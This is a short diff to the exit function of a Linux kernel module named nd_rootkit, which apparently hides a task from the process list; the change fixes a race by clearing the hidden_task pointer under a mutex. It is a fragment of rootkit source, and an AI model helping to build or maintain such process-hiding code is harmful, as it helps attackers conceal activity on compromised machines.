@@ -195,8 +195,13 @@ static int __init nd_rootkit_init(void)
 static void __exit nd_rootkit_exit(void)
 {
 	rwlock_t *lock = tasklist();
-	struct task_struct *t = hidden_task;
+	struct task_struct *t;
 
+	/* The parameters' sysfs files outlive this function: a command may still be running. */
+	mutex_lock(&nd_lock);
+	t = hidden_task;
+	hidden_task = NULL;
+	mutex_unlock(&nd_lock);
 	if (!t)
 		return;
 	write_lock_irq(lock);
